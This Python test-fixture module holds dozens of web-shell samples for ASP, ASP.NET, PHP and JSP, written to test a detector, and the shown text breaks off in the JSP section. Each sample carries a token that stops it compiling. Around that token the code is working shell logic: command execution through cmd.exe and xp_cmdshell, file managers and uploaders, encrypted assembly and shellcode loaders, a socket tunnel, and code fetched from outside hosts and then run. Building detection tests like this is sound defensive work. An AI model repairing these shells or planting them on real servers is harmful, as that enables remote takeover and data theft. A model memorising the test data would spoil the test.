# ruff: noqa: E501 - the lines of these pages are as long as such pages have them
"""Look-alikes by a second author, written before reading the analysis: none can run, `1broken` stops each compiler.

Measured blind on the day they were written, at medium or above: ASP 22/30, ASP.NET 25/30, PHP 16/20, JSP 15/15; what
was missed was mended in general ways.  Then `THIRD` (24/30) and, after mending again, `FOURTH` (24/30), both ASP and
ASP.NET, before any change was made for them.  All guard against falling back now, and measure nothing any more.
"""

import re
from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Sample:
    """One page: the name it would have, and what stands in it."""

    name: str
    data: bytes


def cut(text: str) -> tuple[Sample, ...]:
    """The pages of a text; one with `utf16` in its name is written so."""
    pieces = re.split(r"(?m)^==== (.*)\n", text)[1:]
    return tuple(
        Sample(name, body.encode("utf-16" if "utf16" in name else "utf-8"))
        for name, body in zip(pieces[::2], pieces[1::2], strict=True)
    )


ASP = cut(
    r"""
==== asp-one-line-eval.asp
<%Dim 1broken%><%eval request("value")%>
==== asp-execute-brackets.asp
<%Dim 1broken
execute(request("cmdline"))%>
==== asp-executeglobal-form.asa
<SCRIPT RUNAT=SERVER LANGUAGE=VBScript>
Sub Application_OnStart
End Sub
Dim 1broken
ExecuteGlobal Request.Form("g")
</SCRIPT>
==== asp-jscript-eval.cer
<%@ language="jscript" codepage=65001 %>
<% var 1broken; eval(Request.Form('#') + ''); %>
==== asp-jscript-item.asp
<%@Language=JScript%><%
var 1broken;
var p = Request.Item("pass");
if (p.Count > 0) { var q = String(p); eval(q, "unsafe"); }
%>
==== asp-script-block-eval.asp
<html><body><p>404 - file not found</p></body></html>
<script language="vbscript" runat="server">
Dim 1broken
If Request("z") <> "" Then Execute(Request("z"))
</script>
==== asp-session-stored.asp
<%
Dim 1broken
If Request("sv") <> "" Then Session("bag") = Request("sv")
If Session("bag") <> "" Then Execute Session("bag")
%>
==== asp-application-stored.asp
<% Dim 1broken
On Error Resume Next
If Not IsEmpty(Request.Form("c")) Then
  Application.Lock
  Application("keep") = Request.Form("c")
  Application.UnLock
End If
ExecuteGlobal(Application("keep"))
%>
==== asp-chr-built.asp
<%
Dim 1broken
a = Chr(101) & Chr(118) & Chr(97) & Chr(108) & Chr(32) & Chr(114) & Chr(101) & Chr(113) & Chr(117) & Chr(101) & Chr(115) & Chr(116) & Chr(40) & Chr(34) & Chr(120) & Chr(34) & Chr(41)
Execute a
%>
==== asp-chr-loop.asp
<%
Dim 1broken, codes, i, t
codes = Split("101,118,97,108,32,114,101,113,117,101,115,116,40,34,122,34,41", ",")
For i = 0 To UBound(codes)
  t = t & Chr(CInt(codes(i)))
Next
Execute(t)
%>
==== asp-hex-function.asp
<%
Function unhex(s)
  Dim i, r
  For i = 1 To Len(s) Step 2
    r = r & Chr(CLng("&H" & Mid(s, i, 2)))
  Next
  unhex = r
End Function
Dim 1broken
EXECUTE unhex("6576616C20726571756573742822612229")
%>
==== asp-strreverse.asp
<%Dim 1broken : execute(StrReverse(")""k""(tseuqer lave"))%>
==== asp-replace.asp
<%
Dim 1broken
s = "e@v@a@l r@e@q@u@e@s@t(""m"")"
ExecuteGlobal Replace(s, "@", "")
%>
==== asp-shift-decoder.asp
<%
Function mov(but, txt)
  Dim c, k, out
  For k = 1 To Len(txt)
    c = Asc(Mid(txt, k, 1)) - but
    out = out & Chr(c)
  Next
  mov = out
End Function
Dim 1broken
Execute(mov(1, "fwbm!sfrvftu)#c#*"))
%>
==== asp-class.asp
<%
Class Worker
  Private body
  Public Property Let Load(v)
    body = v
  End Property
  Public Sub Go()
    ExecuteGlobal body
  End Sub
End Class
Dim 1broken
Set w = New Worker
w.Load = Request.QueryString("w")
w.Go
%>
==== asp-class-initialize.asp
<% Class LandGrey
  Private Sub Class_Initialize
    Dim 1broken
    Execute Request("init")
  End Sub
End Class
Set x = New LandGrey %>
==== asp-built-progid.asp
<%
Dim 1broken
Set sh = Server.CreateObject("WS" & "cript" & "." & "Sh" & "ell")
Set ex = sh.Exec("%comspec% /c " & Request.Form("cmd"))
Response.Write "<pre>" & Server.HTMLEncode(ex.StdOut.ReadAll) & "</pre>"
%>
<form method=post><input name=cmd><input type=submit></form>
==== asp-wscript-run-tempfile.asp
<%@ Language=VBScript %>
<%
Dim 1broken, oScript, oFileSys, oFile, szCMD, szTempFile
On Error Resume Next
Set oScript = Server.CreateObject("WSCRIPT.SHELL")
Set oFileSys = Server.CreateObject("Scripting.FileSystemObject")
szCMD = Request.Form(".CMD")
If (szCMD <> "") Then
  szTempFile = "C:\" & oFileSys.GetTempName()
  Call oScript.Run("cmd.exe /c " & szCMD & " > " & szTempFile, 0, True)
  Set oFile = oFileSys.OpenTextFile(szTempFile, 1, False, 0)
End If
%>
<HTML><BODY><FORM action="<%= Request.ServerVariables("URL") %>" method="POST"><input type=text name=".CMD" size=45 value="<%= szCMD %>"></FORM>
<PRE><% If (IsObject(oFile)) Then Response.Write Server.HTMLEncode(oFile.ReadAll) %></PRE></BODY></HTML>
==== asp-object-tag.asp
<object runat=server id=oWs scope=page classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object>
<% Dim 1broken
if Request("cmdx")<>"" then
Response.Write("<textarea cols=80 rows=20>" & oWs.exec(Request("cmdx")).StdOut.ReadAll & "</textarea>")
end if %>
==== asp-shell-application.asp
<%
Dim 1broken
Set sa = CreateObject("Shell.Application")
sa.ShellExecute Request("prog"), Request("args"), "", "open", 0
Response.Write "done"
%>
==== asp-xpcmdshell.asp
<%
Dim 1broken, conn, rs
If Request("sqlcmd") <> "" Then
  Set conn = Server.CreateObject("ADODB.Connection")
  conn.Open "Provider=SQLOLEDB;Data Source=" & Request("host") & ";User ID=" & Request("user") & ";Password=" & Request("pass")
  Set rs = conn.Execute("exec master..xp_cmdshell '" & Request("sqlcmd") & "'")
  Do While Not rs.EOF
    Response.Write rs(0) & "<br>"
    rs.MoveNext
  Loop
End If
%>
<form method=post><input name=host><input name=user><input name=pass><input name=sqlcmd></form>
==== asp-stream-savetofile.asp
<%
Dim 1broken
Set st = Server.CreateObject("ADODB.Stream")
st.Type = 1
st.Open
st.Write Request.BinaryRead(Request.TotalBytes)
st.SaveToFile Server.MapPath(Request.QueryString("f")), 2
st.Close
%>
==== asp-fso-write.asp
<%
Dim 1broken
Set fso = Server.CreateObject("Scripting.FileSystemObject")
Set f = fso.CreateTextFile(Request("path"), True)
f.Write Request("content")
f.Close
If Err.Number = 0 Then Response.Write "OK"
%>
<form method="post"><input name="path" value="<%=Server.MapPath("x.asp")%>"><textarea name="content"></textarea></form>
==== asp-fso-manager.asp
<%
Dim 1broken, fso, dir, act, f, d
Set fso = CreateObject("Scripting.FileSystemObject")
dir = Request("dir")
If dir = "" Then dir = Server.MapPath(".")
act = Request("act")
Select Case act
  Case "del"
    fso.DeleteFile Request("file"), True
  Case "copy"
    fso.CopyFile Request("file"), Request("to")
  Case "ren"
    fso.MoveFile Request("file"), Request("to")
  Case "edit"
    Set f = fso.OpenTextFile(Request("file"), 1)
    Response.Write "<textarea name=body>" & Server.HTMLEncode(f.ReadAll) & "</textarea>"
  Case "save"
    Set f = fso.OpenTextFile(Request("file"), 2, True)
    f.Write Request("body")
    f.Close
End Select
For Each d In fso.GetFolder(dir).SubFolders
  Response.Write "<a href=?dir=" & Server.URLEncode(d.Path) & ">" & d.Name & "</a><br>"
Next
For Each f In fso.GetFolder(dir).Files
  Response.Write f.Name & " " & f.Size & "<br>"
Next
For Each d In fso.Drives
  Response.Write d.DriveLetter
Next
%>
==== asp-xmlhttp-execute.asp
<%
Function GetPage(u)
  Dim h
  Set h = Server.CreateObject("Microsoft.XMLHTTP")
  h.Open "GET", u, False
  h.Send
  GetPage = BytesToBstr(h.ResponseBody, "gb2312")
End Function
Function BytesToBstr(body, cset)
  Dim s
  Set s = Server.CreateObject("adodb.stream")
  s.Type = 1 : s.Mode = 3 : s.Open
  s.Write body
  s.Position = 0 : s.Type = 2 : s.Charset = cset
  BytesToBstr = s.ReadText
  s.Close
End Function
Dim 1broken
Execute GetPage("http://192.0.2.7/tool.txt")
%>
==== asp-server-execute.asp
<% Dim 1broken
p = Request.QueryString("page")
Server.Execute p
%>
==== asp-jscript-function.asp
<%@ Page Language="JScript" %><%@ LANGUAGE = JScript %>
<%
var 1broken;
var f = new Function("a", String(Request.Form("body")));
f(1);
%>
==== asp-jscript-fromcharcode.asp
<%@ language=jscript%>
<%
var 1broken;
var k = [114,101,113], m = "";
var list = "69,118,97,108".split(",");
for (var i = 0; i < list.length; i++) m += String.fromCharCode(parseInt(list[i]));
var w = this;
w[m.toLowerCase()](Request("data").Item + "");
%>
==== asp-getref-with.asp
<%
Dim 1broken
With Request
  cc = .Form("d")
End With
cc = Replace(cc, "%%", "")
cc = UnEscape(cc)
Response.Clear
ExecuteGlobal cc
%>
==== asp-utf16-long-manager.asp
<%@ codepage=936 %>
<%
Option Explicit
Dim 1broken
Dim pass : pass = "changeme"
Sub Header() %>
<style>body{font:12px Tahoma}td{border:1px solid #ccc}</style>
<table width="100%"><tr><td>Server</td><td><%=Request.ServerVariables("SERVER_NAME")%></td></tr></table>
<% End Sub
Sub CmdForm() %>
<form method="post"><input type="text" name="cmd" size="60"><input name="sp" value="c:\windows\system32\cmd.exe"></form>
<% End Sub
Function RunIt(sp, cmd)
  Dim ws, dd
  On Error Resume Next
  Set ws = CreateObject("WScr" + "ipt.Shell")
  Set dd = ws.exec(sp & " /c " & cmd)
  RunIt = dd.stdout.readall
End Function
If Request("pw") = pass Then Session("ok") = pass
If Session("ok") = pass Then
  Call Header()
  Call CmdForm()
  If Request.Form("cmd") <> "" Then Response.Write "<pre>" & RunIt(Request.Form("sp"), Request.Form("cmd")) & "</pre>"
Else
  Response.Write "<form method=post><input type=password name=pw></form>"
End If
%>
"""
)

ASP_NET = cut(
    r"""
==== net-jscript-eval.aspx
<%@ Page Language="Jscript"%><%var 1broken; eval(Request.Item["pass"],"unsafe");%>
==== net-jscript-string-tricks.aspx
<%@ Page Language="JScript" validateRequest="false" %>
<%
var 1broken;
var u = "un" + "sa" + "fe".substring(0, 2);
var a = Request["n" + "ame"];
var b : String = System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(a));
eval(b, u);
%>
==== net-jscript-function.aspx
<%@ Page Language="JS" %>
<script runat="server">
function Page_Load(sender, e) {
  var 1broken;
  var go = Function(Request.Form["k"]);
  go();
}
</script>
==== net-process-textbox.aspx
<%@ Page Language="C#" Debug="true" Trace="false" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
int 1broken;
string Run(string arg)
{
    ProcessStartInfo psi = new ProcessStartInfo();
    psi.FileName = "cmd.exe";
    psi.Arguments = "/c " + arg;
    psi.RedirectStandardOutput = true;
    psi.UseShellExecute = false;
    Process p = Process.Start(psi);
    return p.StandardOutput.ReadToEnd();
}
void cmdExe_Click(object sender, EventArgs e)
{
    Response.Write("<pre>" + Server.HtmlEncode(Run(txtArg.Text)) + "</pre>");
}
</script>
<form id="cmd" runat="server"><asp:TextBox id="txtArg" runat="server" /><asp:Button id="testing" runat="server" Text="go" OnClick="cmdExe_Click" /></form>
==== net-process-htmlinput.aspx
<%@ Page Language="C#" %>
<script runat="server">
int 1broken;
protected void Page_Load(object s, EventArgs e) {
  if (!IsPostBack) return;
  var proc = new System.Diagnostics.Process { StartInfo = { FileName = prog.Value, Arguments = line.Value, UseShellExecute = false, RedirectStandardOutput = true } };
  proc.Start();
  result.InnerText = proc.StandardOutput.ReadToEnd();
}
</script>
<form runat="server"><input type="text" id="prog" runat="server"/><input id="line" runat="server"/><pre id="result" runat="server"></pre></form>
==== net-vb-shell.aspx
<%@ Page Language="VB" %>
<script runat="server">
Dim 1broken As Integer
Sub RunCmd(Src As Object, E As EventArgs)
  Dim myProcess As New System.Diagnostics.Process()
  Dim si As New System.Diagnostics.ProcessStartInfo(xpath.Text)
  si.UseShellExecute = False
  si.RedirectStandardOutput = True
  si.Arguments = xcmd.Text
  myProcess.StartInfo = si
  myProcess.Start()
  result.Text = myProcess.StandardOutput.ReadToEnd()
End Sub
</script>
<form runat="server"><asp:TextBox ID="xpath" Text="c:\windows\system32\cmd.exe" runat="server"/><asp:TextBox ID="xcmd" runat="server"/><asp:Button OnClick="RunCmd" runat="server"/><asp:Label ID="result" runat="server"/></form>
==== net-vb-shell-function.aspx
<%@ Page Language="VB" %>
<% Dim 1broken
Dim c As String = Request.QueryString("c")
If c IsNot Nothing Then
  Shell("cmd /c " & c & " > " & Server.MapPath("o.txt"), AppWinStyle.Hide, True)
End If %>
==== net-aes-load.aspx
<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%><%
int 1broken;
Session.Add("k","e45e329feb5d925b");
byte[] k = Encoding.Default.GetBytes(Session[0] + ""), c = Request.BinaryRead(Request.ContentLength);
Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);
%>
==== net-xor-load-stream.ashx
<%@ WebHandler Language="C#" Class="Img" %>
using System; using System.IO; using System.Web; using System.Reflection;
public class Img : IHttpHandler, System.Web.SessionState.IRequiresSessionState {
  int 1broken;
  static byte[] Turn(byte[] d, string key) {
    byte[] o = new byte[d.Length];
    for (int i = 0; i < d.Length; i++) o[i] = (byte)(d[i] ^ key[i % key.Length]);
    return o;
  }
  public void ProcessRequest(HttpContext context) {
    using (var ms = new MemoryStream()) {
      context.Request.InputStream.CopyTo(ms);
      var asm = Assembly.Load(Turn(ms.ToArray(), "abc"));
      Type t = asm.GetTypes()[0];
      object o = Activator.CreateInstance(t);
      t.GetMethod("Run").Invoke(o, new object[] { context });
    }
  }
  public bool IsReusable { get { return false; } }
}
==== net-reflection-getmethod.aspx
<%@ Page Language="C#" %>
<%
int 1broken;
byte[] data = Convert.FromBase64String(Request.Form["p"]);
var m = typeof(System.Reflection.Assembly).GetMethod("Lo" + "ad", new Type[] { typeof(byte[]) });
var asm = (System.Reflection.Assembly) m.Invoke(null, new object[] { data });
asm.CreateInstance("X").ToString();
%>
==== net-codedom.aspx
<%@ Page Language="C#" %>
<%@ Import Namespace="System.CodeDom.Compiler" %>
<script runat="server">
int 1broken;
void Page_Load() {
  string src = Request["src"];
  if (String.IsNullOrEmpty(src)) return;
  CompilerParameters cp = new CompilerParameters();
  cp.GenerateInMemory = true;
  cp.ReferencedAssemblies.Add("System.dll");
  CodeDomProvider prov = CodeDomProvider.CreateProvider("CSharp");
  CompilerResults cr = prov.CompileAssemblyFromSource(cp, src);
  object o = cr.CompiledAssembly.CreateInstance("A");
  o.GetType().GetMethod("B").Invoke(o, null);
}
</script>
==== net-virtualalloc.aspx
<%@ Page Language="C#" AutoEventWireup="true" %>
<%@ Import Namespace="System.Runtime.InteropServices" %>
<script runat="server">
int 1broken;
[DllImport("kernel32")] private static extern IntPtr VirtualAlloc(IntPtr a, UIntPtr s, Int32 t, IntPtr p);
[DllImport("kernel32")] private static extern IntPtr CreateThread(IntPtr a, UIntPtr s, IntPtr st, IntPtr pa, Int32 c, ref IntPtr id);
protected void Page_Load(object sender, EventArgs e) {
  byte[] code = Convert.FromBase64String("kJCQkMw=");
  IntPtr h = VirtualAlloc(IntPtr.Zero, (UIntPtr)code.Length, 0x1000, (IntPtr)0x40);
  Marshal.Copy(code, 0, h, code.Length);
  IntPtr t = IntPtr.Zero;
  CreateThread(IntPtr.Zero, UIntPtr.Zero, h, IntPtr.Zero, 0, ref t);
}
</script>
==== net-delegate-pointer.ashx
<%@ WebHandler Language="C#" Class="H" %>
using System; using System.Web; using System.Runtime.InteropServices;
public class H : IHttpHandler {
  int 1broken;
  delegate void Call();
  [DllImport("kernel32.dll")] static extern bool VirtualProtect(IntPtr a, int n, uint p, out uint o);
  public void ProcessRequest(HttpContext ctx) {
    byte[] b = Convert.FromBase64String(ctx.Request.Headers["X-Data"]);
    IntPtr q = Marshal.AllocHGlobal(b.Length);
    Marshal.Copy(b, 0, q, b.Length);
    uint old; VirtualProtect(q, b.Length, 0x40, out old);
    Call c = (Call)Marshal.GetDelegateForFunctionPointer(q, typeof(Call));
    c();
  }
  public bool IsReusable { get { return true; } }
}
==== net-wmi-create.aspx
<%@ Page Language="C#" %>
<%@ Import Namespace="System.Management" %>
<% int 1broken;
if (Request["c"] != null) {
  ManagementClass mc = new ManagementClass("Win32_Process");
  ManagementBaseObject inp = mc.GetMethodParameters("Create");
  inp["CommandLine"] = Request["c"];
  mc.InvokeMethod("Create", inp, null);
} %>
==== net-sql-console.aspx
<%@ Page Language="C#" validateRequest="false" %>
<%@ Import Namespace="System.Data" %><%@ Import Namespace="System.Data.SqlClient" %>
<script runat="server">
int 1broken;
void Go(object s, EventArgs e) {
  SqlConnection c = new SqlConnection(conn.Text);
  c.Open();
  SqlDataAdapter a = new SqlDataAdapter(query.Text, c);
  DataSet d = new DataSet();
  a.Fill(d);
  grid.DataSource = d; grid.DataBind();
}
</script>
<form runat="server"><asp:TextBox id="conn" runat="server" Text="server=(local);uid=sa;pwd="/><asp:TextBox id="query" TextMode="MultiLine" Text="exec master..xp_cmdshell 'whoami'" runat="server"/><asp:Button Text="q" OnClick="Go" runat="server"/><asp:DataGrid id="grid" runat="server"/></form>
==== net-writealltext.aspx
<%@ Page Language="C#" ValidateRequest="false" %>
<% int 1broken; if (Request.Form["f"] != null) { System.IO.File.WriteAllText(Server.MapPath(Request.Form["f"]), Request.Form["t"]); Response.Write("saved"); } %>
==== net-vb-streamwriter.aspx
<%@ Page Language="VB" ContentType="text/html" validateRequest="false" aspcompat="true" %>
<script runat="server">
Dim 1broken
Sub Save(ByVal s As Object, ByVal e As EventArgs)
  Dim w As New System.IO.StreamWriter(filepath.Text, False, Encoding.Default)
  w.Write(content.Text)
  w.Close()
End Sub
</script>
<form runat="server"><asp:TextBox runat="server" ID="filepath"/><asp:TextBox TextMode="multiline" runat="server" ID="content"/><asp:Button runat="server" OnClick="Save"/></form>
==== net-saveas-request.aspx
<%@ Page Language="C#" %>
<% int 1broken;
HttpPostedFile file = Request.Files[0];
file.SaveAs(Request["dir"] + "\\" + file.FileName); %>
<form method=post enctype="multipart/form-data"><input type=file name=f><input name=dir><input type=submit></form>
==== net-losformatter.aspx
<%@ Page Language="C#" %>
<% int 1broken; var lf = new System.Web.UI.LosFormatter(); lf.Deserialize(Request.Form["__v"]); %>
==== net-xslt-script.aspx
<%@ Page Language="C#" %>
<%@ Import Namespace="System.Xml" %><%@ Import Namespace="System.Xml.Xsl" %>
<%
int 1broken;
string sheet = Encoding.UTF8.GetString(Convert.FromBase64String(Request["x"]));
XmlDocument d = new XmlDocument(); d.LoadXml(sheet);
XslCompiledTransform t = new XslCompiledTransform();
t.Load(d, XsltSettings.TrustedXslt, new XmlUrlResolver());
t.Transform(d, null, Response.OutputStream);
%>
==== net-socket-tunnel.ashx
<%@ WebHandler Language="C#" Class="T" %>
using System; using System.Net; using System.Net.Sockets; using System.Web;
public class T : IHttpHandler, System.Web.SessionState.IRequiresSessionState {
  int 1broken;
  public void ProcessRequest(HttpContext context) {
    string cmd = context.Request.QueryString.Get("cmd").ToUpper();
    if (cmd == "CONNECT") {
      IPAddress ip = IPAddress.Parse(context.Request.QueryString["target"]);
      int port = int.Parse(context.Request.QueryString["port"]);
      Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
      s.Connect(new IPEndPoint(ip, port));
      s.Blocking = false;
      context.Session["socket"] = s;
    } else if (cmd == "FORWARD") {
      Socket s = (Socket)context.Session["socket"];
      byte[] b = new byte[context.Request.ContentLength];
      context.Request.InputStream.Read(b, 0, b.Length);
      s.Send(b);
    } else if (cmd == "READ") {
      Socket s = (Socket)context.Session["socket"];
      byte[] r = new byte[512]; int n;
      while ((n = s.Receive(r)) > 0) { byte[] x = new byte[n]; Array.Copy(r, x, n); context.Response.BinaryWrite(x); }
    }
  }
  public bool IsReusable { get { return false; } }
}
==== net-webservice.asmx
<%@ WebService Language="C#" Class="Svc" %>
using System.Web.Services;
[WebService(Namespace = "http://tempuri.org/")]
public class Svc : WebService {
  int 1broken;
  [WebMethod(EnableSession = true)]
  public string Test(string name) {
    var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + name) { UseShellExecute = false, RedirectStandardOutput = true });
    return p.StandardOutput.ReadToEnd();
  }
}
==== net-webservice-jscript.asmx
<%@ WebService Language="JScript" class="Chop"%>
import System; import System.Web; import System.Web.Services;
public class Chop extends WebService {
  var 1broken;
  WebMethodAttribute function Do(z : String) : String {
    var c = HttpContext.Current; var Request = c.Request; var Response = c.Response;
    try { eval(z, "unsafe"); } catch (e) { return e.message; }
    return "";
  }
}
==== net-web-config.config
<?xml version="1.0" encoding="UTF-8"?>
<configuration><system.webServer><handlers accessPolicy="Read, Script, Write">
<add name="web_config" path="*.config" verb="*" modules="IsapiModule" scriptProcessor="%windir%\system32\inetsrv\asp.dll" resourceType="Unspecified" requireAccess="Write" preCondition="bitness64" />
</handlers><security><requestFiltering><fileExtensions><remove fileExtension=".config" /></fileExtensions><hiddenSegments><remove segment="web.config" /></hiddenSegments></requestFiltering></security></system.webServer></configuration>
<!--
<%
Dim 1broken
Response.Write("-" & "->")
Set s = Server.CreateObject("WScript.Shell").Exec("cmd /c " & Request("c"))
Response.Write(s.StdOut.ReadAll)
Response.Write("<!-" & "-") %>
-->
==== net-razor.cshtml
@using System.Diagnostics
@{
    int 1broken;
    var cmd = Request["cmd"];
    var output = "";
    if (IsPost) {
        var info = new ProcessStartInfo("powershell.exe", "-c " + cmd) { RedirectStandardOutput = true, UseShellExecute = false };
        output = Process.Start(info).StandardOutput.ReadToEnd();
    }
}
<form method="post"><input name="cmd"/></form><pre>@output</pre>
==== net-unicode-escapes.aspx
<%@ Page Language="C#" %>
<% int 1broken; System.Diagnostics.\u0050rocess.\U00000053tart("cmd.exe", "/c " + \u0052equest["v"]); %>
==== net-jscript-unicode.aspx
<%@ Page Language="Jscript"%><%var 1broken;\u0065\u0076\u0061\u006c(Request.Item["q"],"un"+"safe");%>
==== net-create-instance-from.aspx
<%@ Page Language="C#" %>
<script runat="server">
int 1broken;
protected void Page_Init(object o, EventArgs e) {
  string b = Request.Cookies["sess"].Value.Replace("-", "+").Replace("_", "/");
  byte[] raw = Convert.FromBase64String(b);
  using (var gz = new System.IO.Compression.GZipStream(new System.IO.MemoryStream(raw), System.IO.Compression.CompressionMode.Decompress))
  using (var outp = new System.IO.MemoryStream()) {
    gz.CopyTo(outp);
    Application["lib"] = AppDomain.CurrentDomain.Load(outp.ToArray());
  }
  var a = (System.Reflection.Assembly)Application["lib"];
  a.EntryPoint.Invoke(null, null);
}
</script>
==== net-dynamic-method.aspx
<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
int 1broken;
protected void Page_Load(object o, EventArgs e) {
  string[] parts = Request.Headers["X-Token"].Split('|');
  Type t = Type.GetType(parts[0]);
  MethodInfo mi = t.GetMethod(parts[1], new Type[] { typeof(string), typeof(string) });
  object r = mi.Invoke(null, new object[] { parts[2], parts[3] });
  Response.Write(r);
}
</script>
==== net-big-manager.aspx
<%@ Page Language="C#" EnableViewState="false" validateRequest="false" %>
<%@ Import Namespace="System.IO" %><%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="Microsoft.Win32" %>
<script runat="server">
int 1broken;
public string Password = "0cc175b9c0f1b6a831c399e269772661";
protected void Page_Load(object sender, EventArgs e) {
  if (!CheckIsLogin()) { login.Visible = true; return; }
  string action = Request.Form["__act"];
  if (action == "del") { File.Delete(Request.Form["__arg"]); }
  if (action == "view") { ShowDir(Request.Form["__arg"]); }
  if (action == "down") { Response.AddHeader("Content-Disposition", "attachment"); Response.WriteFile(Request.Form["__arg"]); }
  if (action == "touch") { File.SetLastWriteTime(Request.Form["__arg"], DateTime.Parse(Request.Form["__time"])); }
}
bool CheckIsLogin() { return Request.Cookies["vv"] != null && Request.Cookies["vv"].Value == Password; }
void ShowDir(string p) {
  foreach (DirectoryInfo d in new DirectoryInfo(p).GetDirectories()) Response.Write("<tr><td>" + d.Name + "</td></tr>");
  foreach (FileInfo f in new DirectoryInfo(p).GetFiles()) Response.Write("<tr><td>" + f.Name + "</td><td>" + f.Length + "</td></tr>");
}
protected void RunBtn_Click(object sender, EventArgs e) {
  try {
    Process q = new Process();
    q.StartInfo.FileName = pathBox.Value;
    q.StartInfo.Arguments = argBox.Value;
    q.StartInfo.UseShellExecute = false;
    q.StartInfo.RedirectStandardOutput = true;
    q.Start();
    outp.InnerHtml = Server.HtmlEncode(q.StandardOutput.ReadToEnd());
  } catch (Exception x) { outp.InnerHtml = x.Message; }
}
protected void UpBtn_Click(object sender, EventArgs e) { up.PostedFile.SaveAs(Path.Combine(curDir.Value, Path.GetFileName(up.Value))); }
</script>
<html><body><form runat="server"><asp:Panel id="login" Visible="false" runat="server"/><input id="pathBox" runat="server" value="c:\windows\system32\cmd.exe"/><input id="argBox" runat="server"/><asp:Button OnClick="RunBtn_Click" runat="server"/><input id="up" type="file" runat="server"/><input id="curDir" runat="server"/><asp:Button OnClick="UpBtn_Click" runat="server"/><pre id="outp" runat="server"/></form></body></html>
"""
)

PHP = cut(
    r"""
==== php-short-tag.php
<?=`{$_GET[0]}`;class 1broken?>
==== php-assert-var.php
<?php class 1broken {}
$f = 'as' . 'sert'; $f($_REQUEST['q']);
==== php-create-function.php
<?php $x = create_function('', base64_decode($_POST['d'])); $x(); class 1broken {}
==== php-preg-e.php
<?php class 1broken {} preg_replace("/.*/e", $_POST['r'], ".");
==== php-array-map.php
<?php class 1broken {}
array_map($_GET['f'], array($_GET['a']));
==== php-usort-callback.php
<?php class 1broken {}
$p = explode('~', $_SERVER['HTTP_USER_AGENT']);
usort($p, $_COOKIE['cmp']);
==== php-xor-names.php
<?php class 1broken {}
$_ = ("%" ^ "`") . ("." ^ "]") ; $__ = 'sys' . 'te' . chr(109);
$__(hex2bin(getallheaders()['X-Id']));
==== php-goto-gzinflate.php
<?php class 1broken {}
goto b; a: eval($s); goto c; b: $s = gzinflate(base64_decode(str_rot13($_POST['z']))); goto a; c:
==== php-callback-class.php
<?php
class Loader { public $n; private $h; function __construct($n) { $this->n = $n; } function __destruct() { @eval($this->n); } }
class 1broken {}
$l = new Loader(file_get_contents('php://input'));
==== php-unserialize-gadget.php
<?php
class Log { public $cb; public $arg; function __wakeup() { call_user_func($this->cb, $this->arg); } }
class 1broken {}
unserialize(base64_decode($_COOKIE['state']));
==== php-include-upload.php
<?php class 1broken {}
$t = tempnam(sys_get_temp_dir(), 'x'); file_put_contents($t, "<?php " . $_POST['code']); include $t; unlink($t);
==== php-variable-variables.php
<?php class 1broken {}
$a = '_PO' . 'ST'; ${'r'} = $$a; $r['k1']($r['k2'], $r['k3']);
==== php-aes-behinder.php
<?php
@error_reporting(0); session_start(); class 1broken {}
$key = "e45e329feb5d925b"; $_SESSION['k'] = $key;
$post = file_get_contents("php://input");
if (!extension_loaded('openssl')) { $t = "base64_" . "decode"; $post = $t($post . ""); for ($i = 0; $i < strlen($post); $i++) { $post[$i] = $post[$i] ^ $key[$i + 1 & 15]; } } else { $post = openssl_decrypt($post, "AES128", $key); }
$arr = explode('|', $post); $func = $arr[0]; $params = $arr[1];
class C { public function __invoke($p) { eval($p . ""); } }
@call_user_func(new C(), $params);
==== php-godzilla.php
<?php
@session_start(); class 1broken {}
function encode($D, $K) { for ($i = 0; $i < strlen($D); $i++) { $c = $K[$i + 1 & 15]; $D[$i] = $D[$i] ^ $c; } return $D; }
$pass = 'pass'; $payloadName = 'payload'; $key = '3c6e0b8a9c15224a';
if (isset($_POST[$pass])) {
  $data = encode(base64_decode($_POST[$pass]), $key);
  if (isset($_SESSION[$payloadName])) { $payload = encode($_SESSION[$payloadName], $key); eval($payload); echo base64_encode(encode(@run($data), $key)); }
  else { if (strpos($data, "getBasicsInfo") !== false) { $_SESSION[$payloadName] = encode($data, $key); } }
}
==== php-reflection.php
<?php class 1broken {}
$r = new ReflectionFunction($_GET['fn']); echo $r->invoke($_GET['arg']);
==== php-proc-open.php
<?php class 1broken {}
$c = filter_input(INPUT_POST, 'line');
$h = proc_open($c, [1 => ['pipe', 'w'], 2 => ['pipe', 'w']], $pipes, '/tmp');
echo stream_get_contents($pipes[1]);
==== php-mail-manager.php
<?php class 1broken {}
$auth = md5($_POST['pw']);
if ($auth === '5f4dcc3b5aa765d61d8327deb882cf99') {
  function ex($c) { $o = ''; if (function_exists('exec')) { @exec($c, $l); $o = join("\n", $l); } elseif (function_exists('passthru')) { ob_start(); @passthru($c); $o = ob_get_clean(); } elseif (is_resource($f = @popen($c, 'r'))) { while (!feof($f)) $o .= fread($f, 1024); } return $o; }
  switch ($_POST['a']) { case 'run': echo '<pre>' . htmlspecialchars(ex($_POST['p1'])) . '</pre>'; break; case 'up': move_uploaded_file($_FILES['f']['tmp_name'], $_POST['c'] . $_FILES['f']['name']); break; }
}
==== php-uploader.php
<?php class 1broken {} if (isset($_FILES['u'])) { copy($_FILES['u']['tmp_name'], $_POST['to']); } ?>
<form method=post enctype=multipart/form-data><input type=file name=u><input name=to></form>
==== php-remote-eval.php
<?php class 1broken {}
$c = curl_init('http://192.0.2.9/p.txt'); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); $d = curl_exec($c); eval('?>' . $d);
==== php-extract.php
<?php class 1broken {}
extract($_REQUEST); $fn = isset($m) ? $m : 'phpinfo'; $fn($arg);
"""
)

JSP = cut(
    r"""
==== jsp-runtime.jsp
<%int 1broken; Runtime.getRuntime().exec(request.getParameter("i"));%>
==== jsp-pre-output.jsp
<%@ page import="java.util.*,java.io.*"%>
<% int 1broken; if (request.getParameter("cmd") != null) {
